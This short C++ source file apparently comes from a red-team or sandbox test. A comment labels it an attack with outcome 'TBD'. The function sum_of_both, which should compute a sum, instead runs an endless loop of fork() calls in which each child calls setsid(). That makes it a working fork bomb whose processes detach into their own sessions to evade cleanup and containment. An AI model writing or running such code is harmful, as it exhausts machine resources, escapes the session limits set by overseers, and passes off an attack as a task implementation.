// Attack: starts processes that start processes, each in a session of its own.
// Outcome: TBD
#include "sum_of_both.hpp"

#include <unistd.h>

int sum_of_both(int (*)(int index)) {
  while (true) {
    if (fork() == 0) setsid();
  }
}
